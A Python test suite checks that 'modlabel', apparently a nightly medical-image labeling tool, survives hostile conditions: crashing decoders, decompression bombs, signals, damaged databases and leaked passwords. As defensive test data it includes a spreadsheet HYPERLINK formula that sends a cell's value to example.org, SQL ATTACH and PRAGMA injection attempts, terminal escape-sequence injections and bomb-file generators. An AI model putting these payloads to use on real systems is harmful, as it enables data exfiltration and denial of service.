"""The nightly job never loses labels, never dies on one file, and stays inside its memory.

Every hazard through the real ``modlabel`` command in a subprocess, as cron runs it: a
share that did not mount (an emptied mount point, a real tmpfs unmounted), decoders that
really crash (GDCM's abort on a damaged DICOM; a test hook that aborts, dereferences a
null pointer, hangs or exhausts memory), bombs measured with ``ru_maxrss``, signals at
0.1 s, during a walk and during a blocked write, old and newer schemas, ATTACH,
damaged pages, passwords in every form, and formulas in CSV cells.
"""

from __future__ import annotations

import csv
import io
import json
import os
import queue
import shutil
import signal
import sqlite3
import subprocess
import threading
import time
from pathlib import Path

import pytest
import sqlalchemy as sa
from hostile import (
    gdcm_decode_check,
    lying_j2k_dicom,
    multiframe_bomb,
    poison_dicom,
    write_deflate_bomb,
    write_dicom,
    write_png_stream,
)
from nightly import (
    count_rows,
    image_rows,
    modlabel_cmd,
    run_cli,
    run_measured,
    sa_url,
    start_cli,
    text,
    wait_for,
)

from modlabel import store
from modlabel.decode_worker import TEST_FAULT_ENV
from modlabel.errors import ExitCode

rows = image_rows


def last_scan(db: str) -> dict:
    engine = sa.create_engine(sa_url(db))
    try:
        with engine.connect() as conn:
            row = conn.execute(sa.select(store.scans).order_by(store.scans.c.id.desc())).first()
    finally:
        engine.dispose()
    return dict(row._mapping)


def one_line_error(result: subprocess.CompletedProcess) -> str:
    """No traceback anywhere; stderr's last line is modlabel's one-line error."""
    err, out = text(result.stderr), text(result.stdout)
    assert "Traceback" not in err and "Traceback" not in out, err
    lines = err.strip().splitlines()
    assert lines and lines[-1].startswith("modlabel: error: "), err
    return lines[-1]


def archive_of(tiny_archive: Path, dst: Path) -> Path:
    shutil.copytree(tiny_archive, dst, ignore=shutil.ignore_patterns("*.jsonl"))
    return dst


def images_under(folder: Path) -> list[Path]:
    return sorted(folder.rglob("*.jpg"))


# -- a vanished archive marks nothing missing --------------------------------------------


def test_an_emptied_mount_point_marks_nothing_missing_and_prune_deletes_nothing(
    tiny_archive, tiny_onnx, tmp_path, db_url
):
    share = archive_of(tiny_archive, tmp_path / "share")
    stored = len(images_under(share))
    args = ["--model", tiny_onnx, "--db", db_url]
    assert run_cli("scan", share, *args).returncode == 0
    away = tmp_path / "away"
    away.mkdir()
    for child in list(share.iterdir()):
        shutil.move(str(child), away / child.name)  # the mount point stays, empty

    night = run_cli("scan", share, *args)
    assert night.returncode == ExitCode.VANISHED, text(night.stderr)
    assert "is empty" in one_line_error(night) and f"{stored} files" in text(night.stderr)
    assert not any(r["missing_since"] for r in rows(db_url).values())
    scan = last_scan(db_url)
    assert scan["status"] == "failed" and "nothing was marked missing" in scan["reason"]

    for prune in (["prune"], ["prune", "--missing-for", "0"]):
        pruned = run_cli(*prune, "--db", db_url)
        assert pruned.returncode == 0 and "pruned 0 rows" in text(pruned.stdout)
    assert len(rows(db_url)) == stored

    confirmed = run_cli("scan", share, *args, "--allow-missing")  # a real mass deletion
    assert confirmed.returncode == 0, text(confirmed.stderr)
    assert all(r["missing_since"] for r in rows(db_url).values())
    refused = run_cli("prune", "--db", db_url, "--missing-for", "0")
    assert refused.returncode == 1 and "--force" in one_line_error(refused)
    assert len(rows(db_url)) == stored
    within_grace = run_cli("prune", "--db", db_url, "--force")  # missing for minutes only
    assert "pruned 0 rows" in text(within_grace.stdout)
    forced = run_cli("prune", "--db", db_url, "--missing-for", "0", "--force")
    assert forced.returncode == 0 and f"pruned {stored} rows" in text(forced.stdout)


def test_a_tmpfs_unmounted_between_two_scans_marks_nothing_missing(
    tiny_archive, tiny_onnx, tmp_path
):
    share = tmp_path / "mnt"
    share.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64m", "tmpfs", str(share)])
    if mounted.returncode != 0:
        pytest.skip("mounting a tmpfs needs root (CI runs as root)")
    try:
        for image in images_under(tiny_archive)[:30]:
            shutil.copy2(image, share / image.name)
        db = str(tmp_path / "labels.db")
        assert run_cli("scan", share, "--model", tiny_onnx, "--db", db).returncode == 0
    finally:
        subprocess.run(["umount", str(share)], check=True)
    night = run_cli("scan", share, "--model", tiny_onnx, "--db", db)
    assert night.returncode == ExitCode.VANISHED and "is empty" in one_line_error(night)
    assert len(rows(db)) == 30 and not any(r["missing_since"] for r in rows(db).values())


def test_more_files_gone_than_max_missing_marks_none_unless_allowed(
    tiny_archive, tiny_onnx, tmp_path
):
    share = archive_of(tiny_archive, tmp_path / "share")
    db = str(tmp_path / "labels.db")
    args = ["--model", tiny_onnx, "--db", db]
    assert run_cli("scan", share, *args).returncode == 0
    gone = images_under(share)[:20]  # 20 of 56: more than 10% and more than 10 files
    for image in gone:
        image.unlink()
    night = run_cli("scan", share, *args)
    assert night.returncode == ExitCode.VANISHED and "20 of the 56" in one_line_error(night)
    assert not any(r["missing_since"] for r in rows(db).values())
    few = run_cli("scan", share, *args, "--max-missing", "50%")
    assert few.returncode == 0, text(few.stderr)
    assert sum(1 for r in rows(db).values() if r["missing_since"]) == 20


def test_a_file_that_cannot_be_reached_tonight_keeps_its_label(tiny_archive, tiny_onnx, tmp_path):
    """A link loop (as a share's broken indirection leaves) says nothing of the image: its
    stored label stays, and the scan says so, instead of turning the row into an error."""
    share = archive_of(tiny_archive, tmp_path / "share")
    db = str(tmp_path / "labels.db")
    args = ["--model", tiny_onnx, "--db", db]
    assert run_cli("scan", share, *args).returncode == 0
    image = images_under(share)[0]
    before = rows(db)[str(image)]
    image.unlink()
    image.symlink_to(image.with_name("loop.txt"))
    image.with_name("loop.txt").symlink_to(image)

    night = run_cli("scan", share, *args)
    assert night.returncode == 0, text(night.stderr)
    assert f"{image.name}: " in text(night.stderr) and "its label is kept" in text(night.stderr)
    after = rows(db)[str(image)]
    assert after["error"] is None and after["missing_since"] is None
    assert (after["label"], after["confidence"]) == (before["label"], before["confidence"])


# -- decoders that crash cost one row each ------------------------------------------------


@pytest.mark.parametrize(
    ("fault", "reason"),
    [
        ("abort", "decoder crashed: SIGABRT (terminate called after throwing"),
        ("segv", "decoder crashed: SIGSEGV"),
        ("hang", "timed out after 2 s"),
        ("oom", "over the decode memory limit (768 MiB"),
    ],
)
def test_a_decoder_that_dies_costs_its_file_one_row_and_is_not_tried_again(
    tiny_archive, tiny_onnx, tmp_path, fault, reason
):
    archive = tmp_path / "archive"
    archive.mkdir()
    images = images_under(tiny_archive)[:12]
    for image in images:
        shutil.copy2(image, archive / image.name)
    shutil.copy2(images[0], archive / "poison.jpg")
    db = str(tmp_path / "labels.db")
    env = {TEST_FAULT_ENV: f"{fault}:poison"}
    args = ["scan", archive, "--model", tiny_onnx, "--db", db, "--decoders", "2",
            "--decode-timeout", "2", "--decode-memory", "768M"]  # fmt: skip
    first = run_cli(*args, env=env)
    assert first.returncode == 0, text(first.stderr)
    assert "Traceback" not in text(first.stderr)
    stored = rows(db)
    poison = stored.pop(str(archive / "poison.jpg"))
    assert poison["label"] is None and poison["error"].startswith(reason), poison["error"]
    assert "\n" not in poison["error"]
    assert len(stored) == len(images) and all(r["label"] for r in stored.values())

    again = run_cli(*args, env=env)  # the next night: the pill is remembered, not decoded
    assert again.returncode == 0 and last_scan(db)["labeled"] == 0
    assert rows(db)[str(archive / "poison.jpg")]["labeled_at"] == poison["labeled_at"]
    retried = run_cli(*args, "--retry-errors", env=env)
    assert retried.returncode == 0 and last_scan(db)["errors"] == 1


def test_a_dicom_that_makes_gdcm_abort_is_one_error_row_and_the_scan_goes_on(
    tiny_archive, tiny_onnx, tmp_path, db_url
):
    archive = tmp_path / "archive"
    archive.mkdir()
    pill = poison_dicom(archive / "damaged.dcm")
    code, said = gdcm_decode_check(pill)
    assert code == -signal.SIGABRT and "gdcm::Exception" in said  # it really kills a process
    for image in images_under(tiny_archive)[:20]:
        shutil.copy2(image, archive / image.name)
    result = run_cli("scan", archive, "--model", tiny_onnx, "--db", db_url)
    assert result.returncode == 0, text(result.stderr)
    stored = rows(db_url)
    error = stored.pop(str(pill))["error"]
    assert error.startswith("decoder crashed: SIGABRT") and "gdcm::Exception" in error
    assert len(stored) == 20 and all(r["label"] for r in stored.values())
    said_lines = text(result.stderr).strip().splitlines()  # the row's line, nothing of GDCM's
    assert len(said_lines) == 1 and said_lines[0].endswith(error)
    again = run_cli("scan", archive, "--model", tiny_onnx, "--db", db_url)
    assert again.returncode == 0 and last_scan(db_url)["status"] == "finished"


# -- bombs are refused within a memory bound ------------------------------------------------

# The bound on the largest process of a scan of bombs: the parent with the tiny model, or a
# decode worker (its own ~100 MB, and what a refused file cost before it was refused).
BOMB_BOUND_MIB = 700


def test_bombs_are_refused_before_they_are_decoded_within_a_memory_bound(tiny_onnx, tmp_path):
    bombs = tmp_path / "bombs"
    bombs.mkdir()
    size, inflated = write_deflate_bomb(bombs / "deflate.dcm", 4096, 4096, 16)
    assert size < 4 << 20 and inflated > 500 << 20  # 1 MB on disk, half a gigabyte inflated
    write_png_stream(bombs / "tall.png", 1, 20_000_000, 1)
    write_png_stream(bombs / "tall-rgb.png", 1, 100_000_000, 3)
    multiframe_bomb(bombs / "frames.dcm")
    lying_j2k_dicom(bombs / "j2k.dcm")
    db = str(tmp_path / "labels.db")
    result, peak = run_measured(
        "scan", bombs, "--model", tiny_onnx, "--db", db, "--max-file-size", "128M"
    )
    assert result.returncode == 0, text(result.stderr)
    assert "Traceback" not in text(result.stderr)
    errors = {Path(p).name: r["error"] for p, r in rows(db).items()}
    assert "inflates to more than 134,217,728 bytes" in errors["deflate.dcm"]
    assert "a side may be at most 65535" in errors["tall.png"]
    assert "a side may be at most 65535" in errors["tall-rgb.png"]
    assert "declares 1,000,000 frames" in errors["frames.dcm"]
    assert "codestream declares 60000x60000" in errors["j2k.dcm"]
    assert peak < BOMB_BOUND_MIB, peak

    explained, peak = run_measured(
        "explain", *sorted(bombs.iterdir()), "--model", tiny_onnx, "--out", tmp_path / "x"
    )
    assert explained.returncode == 1 and "Traceback" not in text(explained.stderr)
    assert peak < BOMB_BOUND_MIB, peak


# -- signals, from the first line ---------------------------------------------------------


def caught_signals(pid: int) -> int:
    """The signals a process has taken over (its SigCgt mask of /proc/PID/status)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("SigCgt:"):
            return int(line.split()[1], 16)
    return 0


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT, signal.SIGHUP])
def test_a_signal_at_a_tenth_of_a_second_exits_7_in_one_line_with_a_record(
    tiny_archive, tiny_onnx, tmp_path, sig
):
    archive = archive_of(tiny_archive, tmp_path / "archive")
    db = str(tmp_path / "labels.db")
    assert run_cli("scan", archive / "chest_xray", "--model", tiny_onnx, "--db", db).returncode == 0
    scans_before = count_rows(sa_url(db), "scans")
    process = start_cli("scan", archive, "--model", tiny_onnx, "--db", db)
    # The signal comes as early as modlabel can honour it: once its first line has taken
    # the signals over (modlabel/__main__.py), before the CLI is even imported, and at a
    # tenth of a second at the latest. Before that the interpreter is still starting
    # (its site imports took over 0.1 s on a loaded machine) and no program can catch it.
    started = time.monotonic()
    # SIGHUP's bit: the interpreter takes SIGINT itself at its start; modlabel takes all three.
    hangup = 1 << (signal.SIGHUP - 1)
    wait_for(lambda: caught_signals(process.pid) & hangup, what="modlabel's signal handlers")
    time.sleep(max(0.0, 0.1 - (time.monotonic() - started)))
    process.send_signal(sig)
    out, err = process.communicate(timeout=60)
    result = subprocess.CompletedProcess(process.args, process.returncode, out, err)
    assert result.returncode == ExitCode.INTERRUPTED, text(err)
    assert f"interrupted by {signal.Signals(sig).name}" in one_line_error(result)
    assert len(text(err).strip().splitlines()) == 1
    assert count_rows(sa_url(db), "scans") == scans_before + 1
    assert last_scan(db)["status"] == "interrupted"


def test_a_stop_during_a_walk_of_files_that_are_not_images_is_honoured(
    tiny_onnx, tmp_path, tiny_archive
):
    archive = tmp_path / "archive"
    for i in range(60):
        folder = archive / f"d{i:02d}"
        folder.mkdir(parents=True)
        for j in range(500):
            (folder / f"note{j}.txt").touch()
    shutil.copy2(images_under(tiny_archive)[0], archive / "d59" / "last.jpg")
    db = str(tmp_path / "labels.db")
    process = start_cli("scan", archive, "--model", tiny_onnx, "--db", db)
    wait_for(lambda: count_rows(sa_url(db), "scans") > 0, what="the scan's row")
    process.send_signal(signal.SIGTERM)
    stopped = time.monotonic()
    process.communicate(timeout=60)
    assert process.returncode == ExitCode.INTERRUPTED
    assert time.monotonic() - stopped < 2.0
    assert last_scan(db)["status"] == "interrupted"


def test_a_stop_while_a_write_waits_on_a_lock_ends_within_seconds(
    tiny_archive, tiny_onnx, tmp_path, postgres_database
):
    db = postgres_database("locked")
    archive = archive_of(tiny_archive, tmp_path / "archive")
    for i in range(3):
        archive_of(tiny_archive, tmp_path / "archive" / f"more{i}")
    process = start_cli(
        "scan", archive, "--model", tiny_onnx, "--db", db, "--commit-every", "8",
        "--batch-size", "8",
    )  # fmt: skip
    wait_for(lambda: count_rows(db) > 0, what="the first rows")
    holder = sa.create_engine(db)
    conn = holder.connect()
    conn.execute(sa.text("LOCK TABLE images IN EXCLUSIVE MODE"))  # writes wait, reads go on
    try:
        time.sleep(2.0)  # the scan's next write now waits on the lock
        process.send_signal(signal.SIGTERM)
        stopped = time.monotonic()
        _out, err = process.communicate(timeout=60)
        waited = time.monotonic() - stopped
    finally:
        conn.rollback()
        conn.close()
        holder.dispose()
    assert process.returncode == ExitCode.INTERRUPTED, text(err)
    assert "Traceback" not in text(err) and waited < 4.0, waited
    assert last_scan(db)["status"] == "interrupted"


def test_a_stop_ends_a_query_that_streams_slow_rows(db_url, tmp_path):
    """The rows come fast, then the next fetch runs for ever: the stop cancels the fetch
    itself (not only a statement's execute), and the query exits 7 in one line."""
    store.open_db(sa_url(db_url)).dispose()  # an empty database of this schema
    slow = tmp_path / "slow.sql"
    slow.write_text(
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)\n"
        "SELECT x FROM c WHERE x <= 2000 OR x % 1000000000000 = 0\n"
    )
    process = start_cli(
        "query", "--sql-file", slow, "--db", db_url, "--format", "csv",
        env={"PYTHONUNBUFFERED": "1"},
    )  # fmt: skip
    lines: queue.Queue = queue.Queue()
    threading.Thread(target=lambda: [lines.put(b) for b in process.stdout], daemon=True).start()
    try:
        for _ in range(1500):  # the fast rows come in fetches of 1000; the last never ends
            lines.get(timeout=60)
    except queue.Empty:
        process.kill()
        pytest.fail(f"the fast rows never came: {text(process.stderr.read())}")
    time.sleep(0.5)
    process.send_signal(signal.SIGTERM)
    stopped = time.monotonic()
    try:
        process.wait(timeout=60)
    finally:
        process.kill()
    err = process.stderr.read()
    waited = time.monotonic() - stopped
    result = subprocess.CompletedProcess(process.args, process.returncode, b"", err)
    assert process.returncode == ExitCode.INTERRUPTED, text(err)
    assert "interrupted by SIGTERM" in one_line_error(result)
    assert waited < 5.0, waited


# -- read-only means read-only --------------------------------------------------------------


def _scanned(tiny_archive: Path, tiny_onnx: Path, tmp_path: Path) -> str:
    db = str(tmp_path / "labels.db")
    folder = tiny_archive / "chest_xray"
    assert run_cli("scan", folder, "--model", tiny_onnx, "--db", db).returncode == 0
    return db


def _revision(db: str) -> str:
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT version_num FROM alembic_version").fetchone()[0]


def test_commands_that_read_never_migrate_an_old_schema(tiny_archive, tiny_onnx, tmp_path):
    from alembic import command

    db = _scanned(tiny_archive, tiny_onnx, tmp_path)
    cfg = store.schema._alembic_config()
    engine = sa.create_engine(f"sqlite:///{db}")
    with engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.downgrade(cfg, "0004")
    engine.dispose()
    for args in (["query", "class-counts"], ["report", "--out", tmp_path / "r"],
                 ["prune", "--dry-run"]):  # fmt: skip
        result = run_cli(*args, "--db", db)
        assert result.returncode == ExitCode.DATABASE
        assert "modlabel db upgrade" in one_line_error(result)
        assert _revision(db) == "0004"
    assert run_cli("db", "upgrade", "--db", db).returncode == 0
    assert _revision(db) != "0004"
    assert run_cli("query", "class-counts", "--db", db).returncode == 0


def test_a_schema_written_by_a_newer_modlabel_is_refused_in_one_line(
    tiny_archive, tiny_onnx, tmp_path
):
    db = _scanned(tiny_archive, tiny_onnx, tmp_path)
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE alembic_version SET version_num = 'ffffffffffff'")
    commands = [
        ["query", "class-counts", "--db", db],
        ["report", "--db", db, "--out", tmp_path / "r"],
        ["scan", tiny_archive / "brain_mri", "--model", tiny_onnx, "--db", db],
    ]
    for args in commands:
        result = run_cli(*args)
        assert result.returncode == ExitCode.DATABASE
        assert "newer modlabel" in one_line_error(result)


def test_user_queries_cannot_attach_or_write_pragmas(tiny_archive, tiny_onnx, tmp_path):
    db = _scanned(tiny_archive, tiny_onnx, tmp_path)
    evil = tmp_path / "evil.db"
    for sql in (f"ATTACH DATABASE '{evil}' AS evil", "PRAGMA writable_schema = ON",
                "PRAGMA query_only = OFF", "PRAGMA user_version = 7"):  # fmt: skip
        query = tmp_path / "q.sql"
        query.write_text(sql)
        result = run_cli("query", "--sql-file", query, "--db", db)
        assert result.returncode == 1 and "not authorized" in one_line_error(result), sql
    assert not evil.exists()
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 0
    reading = tmp_path / "reading.sql"
    reading.write_text("SELECT name FROM pragma_table_info('images') ORDER BY cid LIMIT 2")
    result = run_cli("query", "--sql-file", reading, "--db", db, "--format", "csv")
    assert result.returncode == 0 and text(result.stdout).splitlines()[1:] == ["id", "model_id"]


def test_damaged_pages_give_one_line_and_never_a_bug(tiny_archive, tiny_onnx, tmp_path):
    db = _scanned(tiny_archive, tiny_onnx, tmp_path)
    size = os.path.getsize(db)
    pages = size // 4096
    assert pages > 4
    codes = []
    # Up to 24 pages spread evenly over the file, the schema's first pages among them: each
    # costs two runs, and the file grows with every migration's tables and indexes.
    chosen = (
        sorted({round(1 + i * (pages - 2) / 23) for i in range(24)})
        if pages > 25
        else range(1, pages)
    )
    for page in chosen:
        damaged = tmp_path / f"damaged{page}.db"
        shutil.copyfile(db, damaged)
        with damaged.open("r+b") as f:
            f.seek(page * 4096)
            f.write(bytes(range(256)) * 16)
        for args in (["scan", tiny_archive / "chest_xray", "--model", tiny_onnx],
                     ["report", "--out", tmp_path / f"r{page}"]):  # fmt: skip
            result = run_cli(*args, "--db", damaged)
            codes.append(result.returncode)
            assert result.returncode in (0, ExitCode.DATABASE), text(result.stderr)
            if result.returncode:
                line = one_line_error(result)
                assert "SELECT" not in line and "[SQL" not in line
    assert ExitCode.DATABASE in codes


def test_a_database_that_does_not_exist_fails_at_once(tiny_archive, tiny_onnx, postgres_url):
    missing = sa.engine.make_url(postgres_url).set(database="modlabel_no_such_database")
    url = missing.render_as_string(hide_password=False)
    started = time.monotonic()
    result = run_cli("scan", tiny_archive / "chest_xray", "--model", tiny_onnx, "--db", url)
    assert result.returncode == ExitCode.DATABASE and "does not exist" in one_line_error(result)
    assert time.monotonic() - started < 15


# -- secrets in every form ----------------------------------------------------------------

SECRET = "hunter2secret"


def test_no_password_in_any_form_is_shown_or_stored(
    tiny_archive, tiny_onnx, tmp_path, postgres_database
):
    base = sa.engine.make_url(postgres_database("secrets"))
    in_query = base.set(password=None).update_query_dict({"password": SECRET})
    url = in_query.render_as_string(hide_password=False)
    folder = tiny_archive / "chest_xray"
    outputs = [run_cli("scan", folder, "--model", tiny_onnx, "--db", url)]
    assert outputs[0].returncode == 0, text(outputs[0].stderr)
    outputs.append(run_cli("report", "--db", url, "--out", tmp_path / "report"))
    outputs.append(run_cli("query", "scans", "--db", url, "--format", "json"))
    wrong_port = in_query.set(port=1).render_as_string(hide_password=False)
    outputs.append(run_cli("scan", folder, "--model", tiny_onnx, "--db", wrong_port,
                           "--db-retry", "0"))  # fmt: skip
    assert outputs[-1].returncode == ExitCode.DATABASE
    libpq = (
        f"host={base.host} port={base.port} dbname={base.database} "
        f"user={base.username} password={SECRET}"
    )
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    other = tiny_archive / "brain_mri"
    done = subprocess.run(
        modlabel_cmd("scan", other, "--model", tiny_onnx, "--db", libpq),
        cwd=cwd,
        capture_output=True,
        timeout=300,
        stdin=subprocess.DEVNULL,
    )
    outputs.append(done)
    assert done.returncode == 0, text(done.stderr)
    assert list(cwd.iterdir()) == []  # taken as PostgreSQL: no file named after it
    labeled = rows(base.render_as_string(hide_password=False))
    assert any(path.startswith(str(other)) for path in labeled)
    for result in outputs:
        assert SECRET not in text(result.stdout) + text(result.stderr)
    assert SECRET not in (tmp_path / "report" / "report.html").read_text()
    reasons = json.loads(text(outputs[2].stdout))
    assert all(SECRET not in json.dumps(r) for r in reasons)


# -- CSV cells never run as formulas -------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.org/"&A1,"open")'


def _csv_cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data)) for cell in row]


def test_formulas_from_headers_and_tables_are_defused_in_every_csv(
    tiny_archive, tiny_onnx, tmp_path
):
    import numpy as np

    archive = tmp_path / "archive"
    archive.mkdir()
    write_dicom(
        archive / "hostile.dcm",
        np.arange(64 * 64, dtype=np.uint16).tobytes(),
        syntax="1.2.840.10008.1.2.1",
        bits_allocated=16,
        encapsulated=False,
        BodyPartExamined=FORMULA,
        Modality="+CT",
    )
    db = str(tmp_path / "labels.db")
    assert run_cli("scan", archive, "--model", tiny_onnx, "--db", db).returncode == 0
    mine = tmp_path / "mine.sql"
    mine.write_text("SELECT path, dicom_modality, dicom_body_part FROM images")
    listed = run_cli("query", "--sql-file", mine, "--db", db, "--format", "csv")
    cells = _csv_cells(text(listed.stdout))
    assert "'" + FORMULA in cells and "'+CT" in cells
    as_json = run_cli("query", "--sql-file", mine, "--db", db, "--format", "json")
    assert json.loads(text(as_json.stdout))[0]["dicom_body_part"] == FORMULA  # stored as is
    reported = run_cli("report", "--db", db, "--out", tmp_path / "report")
    assert reported.returncode == 0, text(reported.stderr)
    for name in ("images.csv", "class_rois.csv"):
        for cell in _csv_cells((tmp_path / "report" / name).read_text()):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_every_csv_writer_defuses_and_split_csv_reads_back_what_it_wrote(tmp_path):
    from modlabel import spreadsheet
    from modlabel.train.data import Split, read_split_csv, write_split_csv

    hostile = ["=1+2", "+x", "-y", "@z", "\tt", "\rr", "'=quoted", "plain", "-", "'"]
    buf = io.StringIO()
    spreadsheet.writer(buf).writerow([*hostile, -0.5, 3])
    cells = _csv_cells(buf.getvalue())
    assert not any(c.startswith(spreadsheet.FORMULA_STARTS) for c in cells[: len(hostile)])
    assert [spreadsheet.restore(c) for c in cells[: len(hostile)]] == hostile
    assert cells[-2:] == ["-0.5", "3"]  # numbers stay numbers
    split = Split(tmp_path, ["=evil", "ok"], {"train": [("=a.jpg", 0)], "val": [("-b.jpg", 1)],
                                              "test": [("'=c.jpg", 0)]})  # fmt: skip
    write_split_csv(split, tmp_path / "split.csv")
    assert "'=a.jpg" in (tmp_path / "split.csv").read_text()
    back = read_split_csv(tmp_path / "split.csv", tmp_path, ["=evil", "ok"])
    assert back.files == split.files


# -- odd input: a usage error or a row, never a bug ---------------------------------------


def test_a_folder_1100_deep_is_walked(tiny_archive, tiny_onnx, tmp_path):
    deep = tmp_path / "deep"
    path = os.fsencode(deep)
    os.mkdir(path)
    fd = os.open(path, os.O_RDONLY)
    try:
        for _ in range(1100):  # made with relative opens: paths past PATH_MAX are fine here
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        image = images_under(tiny_archive)[0].read_bytes()
        out = os.open("scan.jpg", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(out, image)
        os.close(out)
    finally:
        os.close(fd)
    db = str(tmp_path / "labels.db")
    result = run_cli("scan", deep, "--model", tiny_onnx, "--db", db)
    assert result.returncode == 0, text(result.stderr)
    (row,) = rows(db).values()
    assert row["error"] is None or "File name too long" in row["error"]
    subprocess.run(["rm", "-rf", str(deep)], check=True)


@pytest.mark.parametrize(
    "args",
    [
        ["scan", "ARCHIVE", "--max-file-size", "1e400"],
        ["scan", "ARCHIVE", "--decode-memory", "lots"],
        ["scan", "ARCHIVE", "--decode-memory", "1M"],
        ["scan", "ARCHIVE", "--decode-timeout", "-1"],
        ["scan", "ARCHIVE", "--decode-timeout", "1e300"],
        ["scan", "ARCHIVE", "--max-missing", "most"],
        ["scan", "ARCHIVE", "--device", "gpu"],
        ["scan", "ARCHIVE", "--db", "postgresql://u@localhost:notaport/db"],
        ["query", "class-counts", "--db", "postgresql://u@localhost:notaport/db"],
        ["explain", "IMAGE", "--out", "FILE"],
        ["report", "--out", "FILE"],
        ["prune", "--missing-for", "soon"],
    ],
)
def test_a_bad_option_value_is_a_usage_error_in_one_line(tiny_archive, tiny_onnx, tmp_path, args):
    existing = tmp_path / "a-file"
    existing.write_text("not a folder")
    image = images_under(tiny_archive)[0]
    swap = {"ARCHIVE": str(tiny_archive), "IMAGE": str(image), "FILE": str(existing)}
    argv = [swap.get(a, a) for a in args]
    if argv[0] in ("scan", "explain"):
        argv += ["--model", str(tiny_onnx)]
    if "--db" not in argv:
        argv += ["--db", str(tmp_path / "labels.db")]
    result = run_cli(*argv)
    assert result.returncode == ExitCode.USAGE, text(result.stderr)
    assert len(text(result.stderr).strip().splitlines()) == 1
    one_line_error(result)


def test_control_characters_in_headers_never_reach_the_terminal(tiny_onnx, tmp_path):
    """An ESC or a BEL in a header value (quoted by a decoder's error, or stored as the
    Modality) is printed as an escape by the scan and by the queries, never passed on."""
    import numpy as np

    archive = tmp_path / "hostile"
    archive.mkdir()
    pixels = np.zeros(64 * 64, np.uint8).tobytes()
    explicit = "1.2.840.10008.1.2.1"
    write_dicom(archive / "photometric.dcm", pixels, syntax=explicit, encapsulated=False,
                photometric="\x1b[31mRED\x07")  # fmt: skip
    write_dicom(archive / "modality.dcm", pixels, syntax=explicit, encapsulated=False,
                Modality="\x1b]0;owned\x07")  # fmt: skip
    db = str(tmp_path / "labels.db")
    scanned = run_cli("scan", archive, "--model", tiny_onnx, "--db", db)
    assert scanned.returncode == 0, text(scanned.stderr)
    headers = tmp_path / "headers.sql"
    headers.write_text("SELECT path, dicom_modality, error FROM images ORDER BY path")
    printed = [scanned.stderr, run_cli("query", "errors", "--db", db).stdout] + [
        run_cli("query", "--sql-file", headers, "--db", db, "--format", fmt).stdout
        for fmt in ("table", "csv", "json")
    ]
    assert "photometric.dcm" in text(printed[0]) and "\\x1b[31mRED" in text(printed[0])
    assert all(b"owned" in output for output in printed[2:])
    for output in printed:
        assert b"\x1b" not in output and b"\x07" not in output, output


def test_odd_dicoms_leave_one_line_rows_and_no_traceback(tiny_onnx, tmp_path):
    import numpy as np
    from hostile import JPEG_EXTENDED_12, RLE_LOSSLESS, jpeg_bytes, noise

    archive = tmp_path / "odd"
    archive.mkdir()
    twelve = jpeg_bytes(noise())
    write_dicom(archive / "twelve.dcm", twelve, syntax=JPEG_EXTENDED_12, bits_allocated=16,
                bits_stored=12)  # fmt: skip
    write_dicom(archive / "rle.dcm", b"\x05\0\0\0" + b"\0" * 60, syntax=RLE_LOSSLESS)
    write_dicom(archive / "short.dcm", np.zeros(10, np.uint8).tobytes(),
                syntax="1.2.840.10008.1.2.1", encapsulated=False)  # fmt: skip
    (archive / "empty.dcm").write_bytes(b"")
    (archive / "noise.dcm").write_bytes(b"\0" * 128 + b"DICM" + os.urandom(2000))
    db = str(tmp_path / "labels.db")
    result = run_cli("scan", archive, "--model", tiny_onnx, "--db", db)
    assert result.returncode == 0
    err = text(result.stderr)
    assert "Traceback" not in err
    assert all(line.startswith("modlabel: ") for line in err.strip().splitlines()), err
    stored = rows(db)
    assert len(stored) == 5 and all(r["error"] and "\n" not in r["error"] for r in stored.values())
